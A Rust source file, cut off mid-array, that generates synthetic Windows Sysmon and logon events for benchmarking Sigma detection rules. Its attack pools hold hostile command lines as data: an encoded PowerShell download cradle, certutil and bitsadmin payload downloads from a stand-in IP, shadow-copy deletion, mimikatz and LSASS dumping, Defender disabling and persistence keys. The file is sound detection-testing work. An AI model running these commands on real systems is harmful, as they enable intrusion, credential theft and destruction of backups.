//! Deterministic generator of Windows events in the flat evtx JSON shape of
//! `../shared/sigma/conformance/*/events.ndjson`: `EventID` (integer),
//! `Channel`, `Computer`, `Provider_Name`, `EventRecordID`, `@timestamp`,
//! then the `EventData` fields at top level.
//!
//! The mix is Sysmon process creation (EID 1), network connection (3), file
//! create (11), registry value set (13) and Security logons (4624 / 4625).
//! Values come from pools of ordinary workstation activity; with probability
//! `attack_rate` an event is instead drawn from a pool of attack-like values
//! (encoded PowerShell, certutil downloads, Run keys, shadow copy deletion, …)
//! so that a realistic small fraction of events matches the SigmaHQ rules.
//!
//! Standard library only: the benchmarks and `tocsin-gen` include this file
//! with `#[path]`, and the same seed always yields the same byte stream.

use std::fmt::Write as _;
use std::io::{self, BufWriter, Write};
use std::path::Path;

/// Probability that an event is drawn from the attack pools. Tuned so that
/// with all SigmaHQ Windows rules roughly 0.5% of events match a rule
/// (`benches/README.md` has the measured fraction).
pub const DEFAULT_ATTACK_RATE: f64 = 0.004;

/// xorshift64* — tiny, fast and good enough for picking from pools.
#[derive(Clone, Debug)]
pub struct Rng(u64);

impl Rng {
    pub fn new(seed: u64) -> Self {
        // splitmix the seed so that 0 and small seeds give a good state.
        let mut z = seed.wrapping_add(0x9E37_79B9_7F4A_7C15);
        z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
        Rng((z ^ (z >> 31)) | 1)
    }

    pub fn next_u64(&mut self) -> u64 {
        let mut x = self.0;
        x ^= x >> 12;
        x ^= x << 25;
        x ^= x >> 27;
        self.0 = x;
        x.wrapping_mul(0x2545_F491_4F6C_DD1D)
    }

    /// Uniform in `0..n` (`n > 0`).
    pub fn below(&mut self, n: u64) -> u64 {
        ((self.next_u64() >> 32) * n) >> 32
    }

    pub fn range(&mut self, lo: u64, hi: u64) -> u64 {
        lo + self.below(hi - lo + 1)
    }

    /// Uniform in `[0, 1)`.
    pub fn unit(&mut self) -> f64 {
        (self.next_u64() >> 11) as f64 / (1u64 << 53) as f64
    }

    pub fn chance(&mut self, p: f64) -> bool {
        self.unit() < p
    }

    pub fn pick<'a, T>(&mut self, pool: &'a [T]) -> &'a T {
        &pool[self.below(pool.len() as u64) as usize]
    }
}

fn mix(mut z: u64) -> u64 {
    z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
    z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
    z ^ (z >> 31)
}

fn fnv(s: &str) -> u64 {
    s.bytes().fold(0xcbf2_9ce4_8422_2325, |h, b| {
        (h ^ b as u64).wrapping_mul(0x100_0000_01b3)
    })
}

// ── pools ────────────────────────────────────────────────────────────────

const USERS: &[&str] = &[
    "alice.martin",
    "bob.nguyen",
    "carol.smith",
    "dave.okafor",
    "erin.kowalski",
    "frank.li",
    "grace.obrien",
    "heidi.schmidt",
    "ivan.petrov",
    "judy.tanaka",
    "karl.jensen",
    "laura.rossi",
    "mallory.king",
    "nina.haddad",
    "oscar.silva",
    "peggy.dubois",
    "quentin.moreau",
    "rita.costa",
    "sam.wilson",
    "trent.baker",
    "uma.patel",
    "victor.hugo",
    "wendy.clark",
    "xavier.lopez",
];
const DOMAIN: &str = "CORP";
const DOMAIN_FQDN: &str = "corp.example.com";
const DC_IPS: &[&str] = &["10.1.0.10", "10.1.0.11"];
const SERVERS: &[&str] = &["SRV-FS01", "SRV-APP02", "SRV-SQL01", "SRV-PRINT01", "SRV-WSUS01"];
const SYSMON: &str = "Microsoft-Windows-Sysmon/Operational";
const SYSMON_PROVIDER: &str = "Microsoft-Windows-Sysmon";

/// A process start: what Sysmon EID 1 reports about image and parent.
struct Proc {
    image: &'static str,
    ofn: &'static str,
    desc: &'static str,
    product: &'static str,
    company: &'static str,
    /// `{u}` is replaced by the user name, `{n}` by a small number, `{h}` by hex.
    cmd: &'static str,
    parent: &'static str,
    parent_cmd: &'static str,
    /// Runs as SYSTEM rather than as the interactive user.
    system: bool,
}

const MS: &str = "Microsoft Corporation";
const WINOS: &str = "Microsoft\u{ae} Windows\u{ae} Operating System";

#[rustfmt::skip]
const BENIGN_PROCS: &[Proc] = &[
    Proc { image: r"C:\Windows\System32\svchost.exe", ofn: "svchost.exe", desc: "Host Process for Windows Services", product: WINOS, company: MS, cmd: r"C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule", parent: r"C:\Windows\System32\services.exe", parent_cmd: r"C:\Windows\system32\services.exe", system: true },
    Proc { image: r"C:\Windows\System32\svchost.exe", ofn: "svchost.exe", desc: "Host Process for Windows Services", product: WINOS, company: MS, cmd: r"C:\Windows\System32\svchost.exe -k wsappx -p -s ClipSVC", parent: r"C:\Windows\System32\services.exe", parent_cmd: r"C:\Windows\system32\services.exe", system: true },
    Proc { image: r"C:\Program Files\Google\Chrome\Application\chrome.exe", ofn: "chrome.exe", desc: "Google Chrome", product: "Google Chrome", company: "Google LLC", cmd: r#""C:\Program Files\Google\Chrome\Application\chrome.exe" --type=renderer --lang=en-US --device-scale-factor=1 --num-raster-threads=4 --renderer-client-id={n} --mojo-platform-channel-handle={n} /prefetch:1"#, parent: r"C:\Program Files\Google\Chrome\Application\chrome.exe", parent_cmd: r#""C:\Program Files\Google\Chrome\Application\chrome.exe""#, system: false },
    Proc { image: r"C:\Program Files\Google\Chrome\Application\chrome.exe", ofn: "chrome.exe", desc: "Google Chrome", product: "Google Chrome", company: "Google LLC", cmd: r#""C:\Program Files\Google\Chrome\Application\chrome.exe" --type=utility --utility-sub-type=network.mojom.NetworkService --lang=en-US --service-sandbox-type=none /prefetch:8"#, parent: r"C:\Program Files\Google\Chrome\Application\chrome.exe", parent_cmd: r#""C:\Program Files\Google\Chrome\Application\chrome.exe""#, system: false },
    Proc { image: r"C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe", ofn: "msedge.exe", desc: "Microsoft Edge", product: "Microsoft Edge", company: MS, cmd: r#""C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe" --type=gpu-process --gpu-preferences=UAAAAAAAAADgAAAYAAAAAAAAAAAAAAAAAABgAAAAAAAwAAAAAAAAAAAAAAAQAAAAAAAAAAAAAAAAAAAAAAAA== /prefetch:2"#, parent: r"C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe", parent_cmd: r#""C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe" --profile-directory=Default"#, system: false },
    Proc { image: r"C:\Windows\System32\conhost.exe", ofn: "CONHOST.EXE", desc: "Console Window Host", product: WINOS, company: MS, cmd: r"\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1", parent: r"C:\Windows\System32\cmd.exe", parent_cmd: r#""C:\Windows\system32\cmd.exe" "#, system: false },
    Proc { image: r"C:\Windows\System32\taskhostw.exe", ofn: "taskhostw.exe", desc: "Host Process for Windows Tasks", product: WINOS, company: MS, cmd: "taskhostw.exe {222A245B-E637-4AE9-A93F-A59CA119A75E}", parent: r"C:\Windows\System32\svchost.exe", parent_cmd: r"C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule", system: false },
    Proc { image: r"C:\Windows\System32\RuntimeBroker.exe", ofn: "RuntimeBroker.exe", desc: "Runtime Broker", product: WINOS, company: MS, cmd: r"C:\Windows\System32\RuntimeBroker.exe -Embedding", parent: r"C:\Windows\System32\svchost.exe", parent_cmd: r"C:\Windows\system32\svchost.exe -k DcomLaunch -p", system: false },
    Proc { image: r"C:\Windows\System32\backgroundTaskHost.exe", ofn: "backgroundTaskHost.exe", desc: "Background Task Host", product: WINOS, company: MS, cmd: r#""C:\Windows\system32\backgroundTaskHost.exe" -ServerName:BackgroundTaskHost.WebAccountProvider"#, parent: r"C:\Windows\System32\svchost.exe", parent_cmd: r"C:\Windows\system32\svchost.exe -k DcomLaunch -p", system: false },
    Proc { image: r"C:\Windows\System32\SearchProtocolHost.exe", ofn: "searchprotocolhost.exe", desc: "Microsoft Windows Search Protocol Host", product: WINOS, company: MS, cmd: r#""C:\Windows\system32\SearchProtocolHost.exe" Global\UsGthrFltPipeMssGthrPipe{n}_ Global\UsGthrCtrlFltPipeMssGthrPipe{n} 1 -2147483646 "Software\Microsoft\Windows Search" "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT; MS Search 4.0 Robot)" "C:\ProgramData\Microsoft\Search\Data\Temp\usgthrsvc" "DownLevelDaemon" "#, parent: r"C:\Windows\System32\SearchIndexer.exe", parent_cmd: r"C:\Windows\system32\SearchIndexer.exe /Embedding", system: true },
    Proc { image: r"C:\Windows\System32\wbem\WmiPrvSE.exe", ofn: "Wmiprvse.exe", desc: "WMI Provider Host", product: WINOS, company: MS, cmd: r"C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding", parent: r"C:\Windows\System32\svchost.exe", parent_cmd: r"C:\Windows\system32\svchost.exe -k DcomLaunch -p", system: true },
    Proc { image: r"C:\Windows\System32\dllhost.exe", ofn: "dllhost.exe", desc: "COM Surrogate", product: WINOS, company: MS, cmd: r"C:\Windows\system32\DllHost.exe /Processid:{AB8902B4-09CA-4BB6-B78D-A8F59079A8D5}", parent: r"C:\Windows\System32\svchost.exe", parent_cmd: r"C:\Windows\system32\svchost.exe -k DcomLaunch -p", system: false },
    Proc { image: r"C:\Windows\System32\notepad.exe", ofn: "NOTEPAD.EXE", desc: "Notepad", product: WINOS, company: MS, cmd: r#""C:\Windows\system32\NOTEPAD.EXE" C:\Users\{u}\Documents\notes-{n}.txt"#, parent: r"C:\Windows\explorer.exe", parent_cmd: r"C:\Windows\Explorer.EXE", system: false },
    Proc { image: r"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE", ofn: "Outlook.exe", desc: "Microsoft Outlook", product: "Microsoft Office", company: MS, cmd: r#""C:\Program Files\Microsoft Office\Root\Office16\OUTLOOK.EXE" "#, parent: r"C:\Windows\explorer.exe", parent_cmd: r"C:\Windows\Explorer.EXE", system: false },
    Proc { image: r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE", ofn: "WinWord.exe", desc: "Microsoft Word", product: "Microsoft Office", company: MS, cmd: r#""C:\Program Files\Microsoft Office\Root\Office16\WINWORD.EXE" /n "C:\Users\{u}\Documents\Quarterly report {n}.docx" /o """#, parent: r"C:\Windows\explorer.exe", parent_cmd: r"C:\Windows\Explorer.EXE", system: false },
    Proc { image: r"C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE", ofn: "Excel.exe", desc: "Microsoft Excel", product: "Microsoft Office", company: MS, cmd: r#""C:\Program Files\Microsoft Office\Root\Office16\EXCEL.EXE" "C:\Users\{u}\Documents\Budget {n}.xlsx""#, parent: r"C:\Windows\explorer.exe", parent_cmd: r"C:\Windows\Explorer.EXE", system: false },
    Proc { image: r"C:\Program Files\Git\cmd\git.exe", ofn: "git.exe", desc: "Git for Windows", product: "Git", company: "The Git Development Community", cmd: "git.exe fetch --all --prune", parent: r"C:\Users\{u}\AppData\Local\Programs\Microsoft VS Code\Code.exe", parent_cmd: r#""C:\Users\{u}\AppData\Local\Programs\Microsoft VS Code\Code.exe" "#, system: false },
    Proc { image: r"C:\Users\{u}\AppData\Local\Programs\Microsoft VS Code\Code.exe", ofn: "electron.exe", desc: "Visual Studio Code", product: "Visual Studio Code", company: MS, cmd: r#""C:\Users\{u}\AppData\Local\Programs\Microsoft VS Code\Code.exe" --type=utility --utility-sub-type=node.mojom.NodeService --lang=en-US --service-sandbox-type=none"#, parent: r"C:\Users\{u}\AppData\Local\Programs\Microsoft VS Code\Code.exe", parent_cmd: r#""C:\Users\{u}\AppData\Local\Programs\Microsoft VS Code\Code.exe" "#, system: false },
    Proc { image: r"C:\Windows\System32\msiexec.exe", ofn: "msiexec.exe", desc: "Windows\u{ae} installer", product: "Windows Installer - Unicode", company: MS, cmd: r"C:\Windows\system32\msiexec.exe /V", parent: r"C:\Windows\System32\services.exe", parent_cmd: r"C:\Windows\system32\services.exe", system: true },
    Proc { image: r"C:\Windows\System32\smartscreen.exe", ofn: "smartscreen.exe", desc: "Windows Defender SmartScreen", product: WINOS, company: MS, cmd: r"C:\Windows\System32\smartscreen.exe -Embedding", parent: r"C:\Windows\System32\svchost.exe", parent_cmd: r"C:\Windows\system32\svchost.exe -k DcomLaunch -p", system: false },
    Proc { image: r"C:\Users\{u}\AppData\Local\Microsoft\OneDrive\OneDrive.exe", ofn: "OneDrive.exe", desc: "Microsoft OneDrive", product: "Microsoft OneDrive", company: MS, cmd: r#""C:\Users\{u}\AppData\Local\Microsoft\OneDrive\OneDrive.exe" /background"#, parent: r"C:\Windows\explorer.exe", parent_cmd: r"C:\Windows\Explorer.EXE", system: false },
    Proc { image: r"C:\Program Files\Mozilla Firefox\firefox.exe", ofn: "firefox.exe", desc: "Firefox", product: "Firefox", company: "Mozilla Corporation", cmd: r#""C:\Program Files\Mozilla Firefox\firefox.exe" -contentproc --channel=1{n} -childID {n} -isForBrowser -prefsLen 31{n} -appDir "C:\Program Files\Mozilla Firefox\browser" - {h} tab"#, parent: r"C:\Program Files\Mozilla Firefox\firefox.exe", parent_cmd: r#""C:\Program Files\Mozilla Firefox\firefox.exe" "#, system: false },
    Proc { image: r"C:\Windows\System32\cmd.exe", ofn: "Cmd.Exe", desc: "Windows Command Processor", product: WINOS, company: MS, cmd: r#""C:\Windows\system32\cmd.exe" "#, parent: r"C:\Windows\explorer.exe", parent_cmd: r"C:\Windows\Explorer.EXE", system: false },
    Proc { image: r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", ofn: "PowerShell.EXE", desc: "Windows PowerShell", product: WINOS, company: MS, cmd: r#""C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe" "#, parent: r"C:\Windows\explorer.exe", parent_cmd: r"C:\Windows\Explorer.EXE", system: false },
    Proc { image: r"C:\Windows\System32\consent.exe", ofn: "consent.exe", desc: "Consent UI for administrative applications", product: WINOS, company: MS, cmd: "consent.exe {n} 288 000001F2A8C0B1C0", parent: r"C:\Windows\System32\svchost.exe", parent_cmd: r"C:\Windows\system32\svchost.exe -k netsvcs -p -s Appinfo", system: true },
    Proc { image: r"C:\Windows\System32\gpupdate.exe", ofn: "GPUpdate.exe", desc: "Microsoft\u{ae} Windows\u{ae} Group Policy Update Utility", product: WINOS, company: MS, cmd: "gpupdate.exe /target:computer", parent: r"C:\Windows\System32\svchost.exe", parent_cmd: r"C:\Windows\system32\svchost.exe -k netsvcs -p -s gpsvc", system: true },
    Proc { image: r"C:\Program Files\Microsoft Office\root\Integration\Integrator.exe", ofn: "Integrator.exe", desc: "Microsoft Office Integrator", product: "Microsoft Office", company: MS, cmd: r#""C:\Program Files\Microsoft Office\root\Integration\Integrator.exe" /I /C"#, parent: r"C:\Program Files\Common Files\microsoft shared\ClickToRun\OfficeClickToRun.exe", parent_cmd: r#""C:\Program Files\Common Files\microsoft shared\ClickToRun\OfficeClickToRun.exe" /service"#, system: true },
    Proc { image: r"C:\Windows\System32\sppsvc.exe", ofn: "sppsvc.exe", desc: "Microsoft Software Protection Platform Service", product: WINOS, company: MS, cmd: r"C:\Windows\system32\sppsvc.exe", parent: r"C:\Windows\System32\services.exe", parent_cmd: r"C:\Windows\system32\services.exe", system: true },
    Proc { image: r"C:\Program Files\Microsoft Teams\current\Teams.exe", ofn: "Teams.exe", desc: "Microsoft Teams", product: "Microsoft Teams", company: MS, cmd: r#""C:\Program Files\Microsoft Teams\current\Teams.exe" --type=renderer --autoplay-policy=no-user-gesture-required --lang=en-US --renderer-client-id={n} /prefetch:1"#, parent: r"C:\Program Files\Microsoft Teams\current\Teams.exe", parent_cmd: r#""C:\Program Files\Microsoft Teams\current\Teams.exe" --system-initiated"#, system: false },
];

#[rustfmt::skip]
const ATTACK_PROCS: &[Proc] = &[
    Proc { image: r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", ofn: "PowerShell.EXE", desc: "Windows PowerShell", product: WINOS, company: MS, cmd: "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQA5ADgALgA1ADEALgAxADAAMAAuADcALwBhACcAKQA=", parent: r"C:\Windows\System32\cmd.exe", parent_cmd: r#"cmd.exe /c start /b powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA"#, system: false },
    Proc { image: r"C:\Windows\System32\certutil.exe", ofn: "CertUtil.exe", desc: "CertUtil.exe", product: WINOS, company: MS, cmd: r"certutil.exe -urlcache -split -f http://198.51.100.7/payload.exe C:\Users\Public\svc.exe", parent: r"C:\Windows\System32\cmd.exe", parent_cmd: r#""C:\Windows\system32\cmd.exe" "#, system: false },
    Proc { image: r"C:\Users\{u}\AppData\Local\Temp\svchost.exe", ofn: "RUNDLL32.EXE", desc: "Windows host process (Rundll32)", product: WINOS, company: MS, cmd: r"svchost.exe C:\Users\{u}\AppData\Local\Temp\upd{n}.dll,DllRegisterServer", parent: r"C:\Windows\System32\cmd.exe", parent_cmd: r#""C:\Windows\system32\cmd.exe" "#, system: false },
    Proc { image: r"C:\Windows\System32\reg.exe", ofn: "reg.exe", desc: "Registry Console Tool", product: WINOS, company: MS, cmd: r#"reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v Updater /t REG_SZ /d "C:\Users\Public\svc.exe" /f"#, parent: r"C:\Windows\System32\cmd.exe", parent_cmd: r#""C:\Windows\system32\cmd.exe" "#, system: false },
    Proc { image: r"C:\Windows\System32\vssadmin.exe", ofn: "VSSADMIN.EXE", desc: "Command Line Interface for Microsoft\u{ae} Volume Shadow Copy Service ", product: WINOS, company: MS, cmd: "vssadmin.exe delete shadows /all /quiet", parent: r"C:\Windows\System32\cmd.exe", parent_cmd: r"cmd.exe /c vssadmin.exe delete shadows /all /quiet", system: false },
    Proc { image: r"C:\Users\{u}\Downloads\mimikatz.exe", ofn: "mimikatz.exe", desc: "mimikatz for Windows", product: "mimikatz", company: "gentilkiwi (Benjamin DELPY)", cmd: r#"mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" exit"#, parent: r"C:\Windows\System32\cmd.exe", parent_cmd: r#""C:\Windows\system32\cmd.exe" "#, system: false },
    Proc { image: r"C:\Windows\System32\wbem\WMIC.exe", ofn: "wmic.exe", desc: "WMI Commandline Utility", product: WINOS, company: MS, cmd: "wmic.exe shadowcopy delete /nointeractive", parent: r"C:\Windows\System32\cmd.exe", parent_cmd: r#""C:\Windows\system32\cmd.exe" "#, system: false },
    Proc { image: r"C:\Windows\System32\bitsadmin.exe", ofn: "bitsadmin.exe", desc: "BITS administration utility", product: WINOS, company: MS, cmd: r"bitsadmin.exe /transfer job{n} /download /priority high http://198.51.100.7/a.exe C:\Users\Public\a.exe", parent: r"C:\Windows\System32\cmd.exe", parent_cmd: r#""C:\Windows\system32\cmd.exe" "#, system: false },
    Proc { image: r"C:\Windows\System32\net.exe", ofn: "net.exe", desc: "Net Command", product: WINOS, company: MS, cmd: "net.exe user support_{n} P@ssw0rd! /add", parent: r"C:\Windows\System32\cmd.exe", parent_cmd: r#""C:\Windows\system32\cmd.exe" "#, system: false },
    Proc { image: r"C:\Windows\System32\schtasks.exe", ofn: "schtasks.exe", desc: "Task Scheduler Configuration Tool", product: WINOS, company: MS, cmd: r#"schtasks.exe /create /sc minute /mo 5 /tn "OneDriveUpdate" /tr "C:\Users\Public\svc.exe" /ru SYSTEM /f"#, parent: r"C:\Windows\System32\cmd.exe", parent_cmd: r#""C:\Windows\system32\cmd.exe" "#, system: false },
    Proc { image: r"C:\Windows\System32\mshta.exe", ofn: "MSHTA.EXE", desc: "Microsoft (R) HTML Application host", product: "Internet Explorer", company: MS, cmd: r#"mshta.exe vbscript:Execute("CreateObject(""Wscript.Shell"").Run ""powershell -nop -w hidden"":close")"#, parent: r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE", parent_cmd: r#""C:\Program Files\Microsoft Office\Root\Office16\WINWORD.EXE" /n "C:\Users\{u}\Downloads\invoice.doc""#, system: false },
    Proc { image: r"C:\Windows\System32\cmd.exe", ofn: "Cmd.Exe", desc: "Windows Command Processor", product: WINOS, company: MS, cmd: r"cmd.exe /Q /c whoami 1> \\127.0.0.1\ADMIN$\__1772438{n}.54 2>&1", parent: r"C:\Windows\System32\wbem\WmiPrvSE.exe", parent_cmd: r"C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding", system: false },
    Proc { image: r"C:\Windows\System32\bcdedit.exe", ofn: "bcdedit.exe", desc: "Boot Configuration Data Editor", product: WINOS, company: MS, cmd: "bcdedit.exe /set {default} recoveryenabled No", parent: r"C:\Windows\System32\cmd.exe", parent_cmd: r#""C:\Windows\system32\cmd.exe" "#, system: false },
    Proc { image: r"C:\Windows\System32\rundll32.exe", ofn: "RUNDLL32.EXE", desc: "Windows host process (Rundll32)", product: WINOS, company: MS, cmd: r"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 672 C:\Windows\Temp\lsass.dmp full", parent: r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", parent_cmd: r#""C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe" "#, system: false },
];

/// Sysmon EID 11.
struct FileCreate {
    image: &'static str,
    /// `{u}` user, `{n}` number, `{h}` hex.
    target: &'static str,
}

#[rustfmt::skip]
const BENIGN_FILES: &[FileCreate] = &[
    FileCreate { image: r"C:\Program Files\Google\Chrome\Application\chrome.exe", target: r"C:\Users\{u}\AppData\Local\Google\Chrome\User Data\Default\Cache\Cache_Data\f_{h}" },
    FileCreate { image: r"C:\Program Files\Google\Chrome\Application\chrome.exe", target: r"C:\Users\{u}\AppData\Local\Google\Chrome\User Data\Default\Code Cache\js\{h}_0" },
    FileCreate { image: r"C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe", target: r"C:\Users\{u}\AppData\Local\Microsoft\Edge\User Data\Default\Network\Cookies-journal" },
    FileCreate { image: r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE", target: r"C:\Users\{u}\Documents\~$arterly report {n}.docx" },
    FileCreate { image: r"C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE", target: r"C:\Users\{u}\AppData\Local\Microsoft\Office\16.0\OfficeFileCache\FSF-{h}.FSF" },
    FileCreate { image: r"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE", target: r"C:\Users\{u}\AppData\Local\Microsoft\Outlook\{u}@corp.example.com.ost.tmp" },
    FileCreate { image: r"C:\Windows\System32\svchost.exe", target: r"C:\Windows\SoftwareDistribution\DataStore\Logs\tmp{n}.edb" },
    FileCreate { image: r"C:\Windows\System32\svchost.exe", target: r"C:\Windows\ServiceState\EventLog\Data\lastalive{n}.dat" },
    FileCreate { image: r"C:\Users\{u}\AppData\Local\Microsoft\OneDrive\OneDrive.exe", target: r"C:\Users\{u}\AppData\Local\Microsoft\OneDrive\logs\Personal\SyncEngine-{n}.odl" },
    FileCreate { image: r"C:\Program Files\Microsoft Teams\current\Teams.exe", target: r"C:\Users\{u}\AppData\Roaming\Microsoft\Teams\IndexedDB\https_teams.microsoft.com_0.indexeddb.leveldb\{n}.log" },
    FileCreate { image: r"C:\Windows\explorer.exe", target: r"C:\Users\{u}\AppData\Roaming\Microsoft\Windows\Recent\Quarterly report {n}.lnk" },
    FileCreate { image: r"C:\Windows\System32\SearchProtocolHost.exe", target: r"C:\ProgramData\Microsoft\Search\Data\Temp\usgthrsvc\tmp{h}.tmp" },
];

#[rustfmt::skip]
const ATTACK_FILES: &[FileCreate] = &[
    FileCreate { image: r"C:\Windows\System32\rundll32.exe", target: r"C:\Windows\Temp\lsass.dmp" },
    FileCreate { image: r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", target: r"C:\Users\{u}\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup\updater.vbs" },
    FileCreate { image: r"C:\Windows\System32\certutil.exe", target: r"C:\Users\Public\svc.exe" },
    FileCreate { image: r"C:\Windows\System32\lsass.exe", target: r"C:\Windows\System32\mimilsa.log" },
    FileCreate { image: r"C:\Users\{u}\AppData\Local\Temp\svc.exe", target: r"C:\Windows\System32\Tasks\OneDriveUpdate" },
    FileCreate { image: r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE", target: r"C:\Users\{u}\AppData\Local\Temp\invoice{n}.hta" },
];

/// Sysmon EID 13.
struct RegSet {
    image: &'static str,
    target: &'static str,
    details: &'static str,
}

#[rustfmt::skip]
const BENIGN_REGS: &[RegSet] = &[
    RegSet { image: r"C:\Windows\explorer.exe", target: r"HKU\{sid}\Software\Microsoft\Windows\CurrentVersion\Explorer\RecentDocs\.docx\{n}", details: "Binary Data" },
    RegSet { image: r"C:\Windows\System32\svchost.exe", target: r"HKLM\System\CurrentControlSet\Services\bam\State\UserSettings\{sid}\\Device\HarddiskVolume3\Program Files\Google\Chrome\Application\chrome.exe", details: "Binary Data" },
    RegSet { image: r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE", target: r"HKU\{sid}\Software\Microsoft\Office\16.0\Word\Reading Locations\Document {n}\Position", details: "{n} 0" },
    RegSet { image: r"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE", target: r"HKU\{sid}\Software\Microsoft\Office\16.0\Outlook\Profiles\Outlook\0a0d020000000000c000000000000046\01020fff", details: "Binary Data" },
    RegSet { image: r"C:\Windows\System32\svchost.exe", target: r"HKLM\SYSTEM\CurrentControlSet\Services\W32Time\Config\LastKnownGoodTime", details: "QWORD (0x01dc{h})" },
    RegSet { image: r"C:\Users\{u}\AppData\Local\Microsoft\OneDrive\OneDrive.exe", target: r"HKU\{sid}\Software\Microsoft\OneDrive\Accounts\Business1\LastSignInTime", details: "DWORD (0x{h})" },
    RegSet { image: r"C:\Program Files\Google\Chrome\Application\chrome.exe", target: r"HKU\{sid}\Software\Google\Chrome\BLBeacon\state", details: "DWORD (0x00000001)" },
    RegSet { image: r"C:\Windows\System32\svchost.exe", target: r"HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\WindowsUpdate\Orchestrator\UScheduler\{n}\workCompleted", details: "DWORD (0x{h})" },
    RegSet { image: r"C:\Windows\System32\SearchIndexer.exe", target: r"HKLM\SOFTWARE\Microsoft\Windows Search\Gathering Manager\Applications\Windows\GatherSession{n}\LastCrawlTime", details: "QWORD (0x01dc{h})" },
    RegSet { image: r"C:\Windows\System32\taskhostw.exe", target: r"HKU\{sid}\Software\Microsoft\Windows\CurrentVersion\CloudStore\Store\Cache\DefaultAccount\{n}\Data", details: "Binary Data" },
];

#[rustfmt::skip]
const ATTACK_REGS: &[RegSet] = &[
    RegSet { image: r"C:\Windows\System32\reg.exe", target: r"HKU\{sid}\Software\Microsoft\Windows\CurrentVersion\Run\Updater", details: r"C:\Users\Public\svc.exe" },
    RegSet { image: r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", target: r"HKLM\SOFTWARE\Policies\Microsoft\Windows Defender\DisableAntiSpyware", details: "DWORD (0x00000001)" },
    RegSet { image: r"C:\Windows\System32\reg.exe", target: r"HKLM\System\CurrentControlSet\Control\SecurityProviders\WDigest\UseLogonCredential", details: "DWORD (0x00000001)" },
    RegSet { image: r"C:\Windows\System32\reg.exe", target: r"HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\sethc.exe\Debugger", details: r"C:\Windows\System32\cmd.exe" },
    RegSet { image: r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", target: r"HKLM\SOFTWARE\Microsoft\Windows Defender\Exclusions\Paths\C:\Users\Public", details: "DWORD (0x00000000)" },
];

/// Sysmon EID 3.
struct Conn {
    image: &'static str,
    dst: &'static [&'static str],
    host: &'static str,
    port: u16,
    initiated: bool,
}

#[rustfmt::skip]
const BENIGN_CONNS: &[Conn] = &[
    Conn { image: r"C:\Program Files\Google\Chrome\Application\chrome.exe", dst: &["142.250.185.78", "142.250.186.35", "172.217.16.142"], host: "www.google.com", port: 443, initiated: true },
    Conn { image: r"C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe", dst: &["13.107.21.200", "204.79.197.200"], host: "www.bing.com", port: 443, initiated: true },
    Conn { image: r"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE", dst: &["52.97.146.162", "40.99.10.18"], host: "outlook.office365.com", port: 443, initiated: true },
    Conn { image: r"C:\Program Files\Microsoft Teams\current\Teams.exe", dst: &["52.113.194.132", "52.114.128.43"], host: "teams.microsoft.com", port: 443, initiated: true },
    Conn { image: r"C:\Users\{u}\AppData\Local\Microsoft\OneDrive\OneDrive.exe", dst: &["13.107.42.12", "13.107.42.13"], host: "api.onedrive.com", port: 443, initiated: true },
    Conn { image: r"C:\Windows\System32\svchost.exe", dst: &["10.1.0.10", "10.1.0.11"], host: "dc01.corp.example.com", port: 389, initiated: true },
    Conn { image: r"C:\Windows\System32\svchost.exe", dst: &["10.1.0.40"], host: "srv-wsus01.corp.example.com", port: 8530, initiated: true },
    Conn { image: r"C:\Program Files\Mozilla Firefox\firefox.exe", dst: &["151.101.1.140", "151.101.65.140"], host: "www.reddit.com", port: 443, initiated: true },
];

#[rustfmt::skip]
const ATTACK_CONNS: &[Conn] = &[
    Conn { image: r"C:\Windows\System32\rundll32.exe", dst: &["198.51.100.7"], host: "", port: 4444, initiated: true },
